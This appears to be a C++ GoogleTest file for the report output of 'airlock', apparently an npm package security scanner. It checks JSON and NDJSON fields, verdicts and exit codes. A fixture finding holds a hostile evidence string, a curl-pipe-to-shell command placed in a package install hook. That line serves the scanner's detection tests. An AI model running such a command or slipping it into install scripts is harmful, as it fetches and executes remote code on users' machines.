// json and ndjson reporters: the airlock.report/1 contract (ARCHITECTURE.md), checked by
// parsing the output back. Also the SummarySink verdict / exit-code rules they report.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "airlock/core/sink.h"
#include "airlock/report/reporter.h"
#include "report_test_support.h"

namespace airlock::report {
namespace {

using nlohmann::json;
using nlohmann::ordered_json;

using namespace ::airlock::report::testing;  // NOLINT(build/namespaces)

json render_json(const Scenario& run) {
  const std::string s = render(Format::kJson, run);
  EXPECT_FALSE(s.empty());
  EXPECT_EQ(s.back(), '\n');
  return json::parse(s);
}

TEST(ReportFormat, ParsesTheFourNames) {
  EXPECT_EQ(parse_format("text"), Format::kText);
  EXPECT_EQ(parse_format("json"), Format::kJson);
  EXPECT_EQ(parse_format("sarif"), Format::kSarif);
  EXPECT_EQ(parse_format("ndjson"), Format::kNdjson);
  EXPECT_EQ(parse_format("JSON"), std::nullopt);
  EXPECT_EQ(parse_format(""), std::nullopt);
  EXPECT_EQ(parse_format("xml"), std::nullopt);
}

TEST(ReportJson, TopLevelKeysInContractOrder) {
  Scenario run{{make_target(0, "x.tgz")}, {make_finding(0, Severity::kHigh)}, {}};
  const std::string s = render(Format::kJson, run);
  const auto doc = ordered_json::parse(s);
  std::vector<std::string> keys;
  for (const auto& [k, v] : doc.items()) keys.push_back(k);
  EXPECT_EQ(keys, (std::vector<std::string>{"schema", "tool", "command", "targets", "findings",
                                            "errors", "summary"}));
  std::vector<std::string> fkeys;
  for (const auto& [k, v] : doc["findings"][0].items()) fkeys.push_back(k);
  EXPECT_EQ(fkeys, (std::vector<std::string>{"rule", "severity", "category", "message", "target",
                                             "location", "evidence", "attack", "references"}));
  std::vector<std::string> skeys;
  for (const auto& [k, v] : doc["summary"].items()) skeys.push_back(k);
  EXPECT_EQ(skeys, (std::vector<std::string>{"targets", "findings", "max_severity", "verdict"}));
  // Pretty-printed with two spaces, one document.
  EXPECT_NE(s.find("\n  \"schema\": \"airlock.report/1\""), std::string::npos);
}

TEST(ReportJson, FieldValues) {
  Scenario run{{make_target(0, "x.tgz")}, {make_finding(0, Severity::kHigh)}, {}};
  const json doc = render_json(run);
  EXPECT_EQ(doc["schema"], "airlock.report/1");
  EXPECT_EQ(doc["tool"], (json{{"name", "airlock"}, {"version", "0.1.0"}}));
  EXPECT_EQ(doc["command"], "scan");
  ASSERT_EQ(doc["targets"].size(), 1u);
  EXPECT_EQ(doc["targets"][0], (json{{"id", 0},
                                     {"path", "x.tgz"},
                                     {"kind", "npm-tarball"},
                                     {"name", "x"},
                                     {"version", "1.0.0"},
                                     {"sha256", "ab12"}}));
  const json& f = doc["findings"][0];
  EXPECT_EQ(f["rule"], "install-hook-download-exec");
  EXPECT_EQ(f["severity"], "high");
  EXPECT_EQ(f["category"], "download-exec");
  EXPECT_EQ(f["target"], 0);
  EXPECT_EQ(f["location"], (json{{"path", "package.json"}, {"line", 7}}));
  EXPECT_EQ(f["evidence"], "curl -s http://203.0.113.7/i.sh | sh");
  EXPECT_EQ(f["attack"], (json{"T1059.004", "T1105"}));
  EXPECT_EQ(f["references"], (json{"SAFE-T1006"}));
  EXPECT_TRUE(doc["errors"].is_array());
  EXPECT_TRUE(doc["errors"].empty());
  EXPECT_EQ(
      doc["summary"],
      (json{{"targets", 1}, {"findings", 1}, {"max_severity", "high"}, {"verdict", "block"}}));
}

TEST(ReportJson, UnknownTargetFieldsAreNull) {
  TargetInfo dir{3, "pkgdir", "npm-package", "", "", "", ""};
  const json doc = render_json(Scenario{{dir}, {}, {}});
  EXPECT_TRUE(doc["targets"][0]["name"].is_null());
  EXPECT_TRUE(doc["targets"][0]["version"].is_null());
  EXPECT_TRUE(doc["targets"][0]["sha256"].is_null());
  EXPECT_EQ(doc["targets"][0]["id"], 3);
}

TEST(ReportJson, LocationOmittedWhenAbsentLineOmittedWhenZero) {
  Finding no_loc = make_finding(0, Severity::kLow, "provenance-missing");
  no_loc.location.reset();
  Finding whole_file = make_finding(0, Severity::kLow, "bundled-binary");
  whole_file.location = Location{"bin/helper", 0};
  Finding empty_lists = make_finding(0, Severity::kInfo, "x");
  empty_lists.attack.clear();
  empty_lists.references.clear();
  empty_lists.evidence.clear();
  const json doc =
      render_json(Scenario{{make_target(0, "x.tgz")}, {no_loc, whole_file, empty_lists}, {}});
  EXPECT_FALSE(doc["findings"][0].contains("location"));
  EXPECT_EQ(doc["findings"][1]["location"], (json{{"path", "bin/helper"}}));
  EXPECT_EQ(doc["findings"][2]["attack"], json::array());
  EXPECT_EQ(doc["findings"][2]["references"], json::array());
  EXPECT_EQ(doc["findings"][2]["evidence"], "");
}

TEST(ReportJson, ErrorsArrayAndNullTarget) {
  Scenario run{{make_target(0, "a.tgz"), make_target(1, "broken.tgz")},
               {},
               {{1, "cannot open archive"}, {-1, "cannot read stdin"}}};
  const json doc = render_json(run);
  ASSERT_EQ(doc["errors"].size(), 2u);
  EXPECT_EQ(doc["errors"][0], (json{{"target", 1}, {"message", "cannot open archive"}}));
  EXPECT_TRUE(doc["errors"][1]["target"].is_null());
  EXPECT_EQ(doc["summary"]["verdict"], "allow");
  EXPECT_TRUE(doc["summary"]["max_severity"].is_null());
  EXPECT_EQ(doc["summary"]["findings"], 0);
  EXPECT_EQ(doc["summary"]["targets"], 2);
}

TEST(ReportJson, VerdictFollowsFailOn) {
  const TargetInfo t = make_target(0, "x.tgz");
  auto verdict = [&](std::vector<Finding> fs, Severity fail_on) {
    return render_json(Scenario{{t}, std::move(fs), {}, fail_on})["summary"];
  };
  EXPECT_EQ(verdict({make_finding(0, Severity::kMedium)}, Severity::kHigh)["verdict"], "warn");
  EXPECT_EQ(verdict({make_finding(0, Severity::kMedium)}, Severity::kMedium)["verdict"], "block");
  EXPECT_EQ(verdict({make_finding(0, Severity::kCritical)}, Severity::kHigh)["verdict"], "block");
  EXPECT_EQ(verdict({make_finding(0, Severity::kInfo)}, Severity::kInfo)["verdict"], "block");
  EXPECT_EQ(verdict({make_finding(0, Severity::kInfo)}, Severity::kLow)["verdict"], "warn");
  EXPECT_EQ(verdict({}, Severity::kInfo)["verdict"], "allow");
  const json s = verdict({make_finding(0, Severity::kLow), make_finding(0, Severity::kCritical),
                          make_finding(0, Severity::kMedium)},
                         Severity::kCritical);
  EXPECT_EQ(s["max_severity"], "critical");
  EXPECT_EQ(s["findings"], 3);
  EXPECT_EQ(s["verdict"], "block");
  // max_severity is "info" (not null) when the only findings are info.
  EXPECT_EQ(verdict({make_finding(0, Severity::kInfo)}, Severity::kHigh)["max_severity"], "info");
}

TEST(ReportJson, InvalidUtf8EvidenceDoesNotThrowAndStaysValidJson) {
  Finding f = make_finding(0, Severity::kHigh);
  static const char kRaw[] = "ok \xff\xfe bad \xc3( \x1b[2J\x00 end";
  f.evidence = std::string(kRaw, sizeof(kRaw) - 1);
  f.message = "msg \x80";
  Scenario run{{make_target(0, "x\xe9.tgz")}, {f}, {}};
  std::string out;
  ASSERT_NO_THROW(out = render(Format::kJson, run));
  json doc;
  ASSERT_NO_THROW(doc = json::parse(out));
  const std::string ev = doc["findings"][0]["evidence"];
  EXPECT_NE(ev.find("\xEF\xBF\xBD"), std::string::npos);  // U+FFFD replacement
  EXPECT_NE(ev.find("\x1b[2J"), std::string::npos);       // escaped in JSON, intact after parse
  EXPECT_EQ(out.find('\x1b'), std::string::npos);         // never raw on the wire
  ASSERT_NO_THROW(out = render(Format::kNdjson, run));
  std::istringstream lines(out);
  for (std::string line; std::getline(lines, line);) EXPECT_NO_THROW(json::parse(line));
}

TEST(ReportJson, EmptyRun) {
  const json doc = render_json(Scenario{});
  EXPECT_EQ(doc["targets"], json::array());
  EXPECT_EQ(doc["findings"], json::array());
  EXPECT_EQ(doc["errors"], json::array());
  EXPECT_EQ(doc["summary"]["verdict"], "allow");
}

TEST(ReportJson, ToolVersionFromOptions) {
  std::ostringstream out;
  ReporterOptions o;
  o.tool_version = "9.9.9";
  auto rep = make_reporter(Format::kJson, out, o);
  rep->begin({"check", Severity::kHigh});
  rep->end();
  const json doc = json::parse(out.str());
  EXPECT_EQ(doc["tool"]["version"], "9.9.9");
  EXPECT_EQ(doc["command"], "check");
}

TEST(ReportNdjson, OneObjectPerLineWithTypes) {
  Scenario run{{make_target(0, "a.tgz"), make_target(1, "b.tgz")},
               {make_finding(0, Severity::kMedium)},
               {{1, "boom"}},
               Severity::kHigh};
  const std::string out = render(Format::kNdjson, run);
  std::istringstream in(out);
  std::vector<ordered_json> lines;
  for (std::string line; std::getline(in, line);) lines.push_back(ordered_json::parse(line));
  ASSERT_EQ(lines.size(), 5u);
  EXPECT_EQ(lines[0]["type"], "target");
  EXPECT_EQ(lines[1]["type"], "finding");
  EXPECT_EQ(lines[2]["type"], "target");
  EXPECT_EQ(lines[3]["type"], "error");
  EXPECT_EQ(lines[4]["type"], "summary");
  EXPECT_EQ(lines[0].begin().key(), "type");  // type first, then the json fields in order
  EXPECT_EQ(lines[0]["path"], "a.tgz");
  EXPECT_TRUE(lines[0].contains("sha256"));
  EXPECT_EQ(lines[1]["rule"], "install-hook-download-exec");
  EXPECT_EQ(lines[1]["location"]["line"], 7);
  EXPECT_EQ(lines[3]["target"], 1);
  EXPECT_EQ(lines[3]["message"], "boom");
  EXPECT_EQ(lines[4]["verdict"], "warn");
  EXPECT_EQ(lines[4]["max_severity"], "medium");
  EXPECT_EQ(lines[4]["targets"], 2);
  // The json document and the ndjson lines carry the same finding fields.
  const ordered_json doc = ordered_json::parse(render(Format::kJson, run));
  ordered_json f = lines[1];
  f.erase("type");
  EXPECT_EQ(f, doc["findings"][0]);
}

TEST(ReportSummarySink, ExitCodes) {
  auto exit_code = [](std::vector<Finding> fs, std::vector<TargetError> es, Severity fail_on) {
    SummarySink s;
    s.begin({"scan", fail_on});
    s.target(make_target(0, "x.tgz"));
    for (const auto& f : fs) s.finding(f);
    for (const auto& e : es) s.error(e);
    s.end();
    return s.exit_code();
  };
  EXPECT_EQ(exit_code({}, {}, Severity::kHigh), 0);
  EXPECT_EQ(exit_code({make_finding(0, Severity::kMedium)}, {}, Severity::kHigh), 0);
  EXPECT_EQ(exit_code({make_finding(0, Severity::kHigh)}, {}, Severity::kHigh), 1);
  EXPECT_EQ(exit_code({make_finding(0, Severity::kLow)}, {}, Severity::kLow), 1);
  // Errors decide 2 only when no finding decided 1.
  EXPECT_EQ(exit_code({}, {{0, "bad"}}, Severity::kHigh), 2);
  EXPECT_EQ(exit_code({make_finding(0, Severity::kMedium)}, {{0, "bad"}}, Severity::kHigh), 2);
  EXPECT_EQ(exit_code({make_finding(0, Severity::kCritical)}, {{0, "bad"}}, Severity::kHigh), 1);
}

}  // namespace
}  // namespace airlock::report
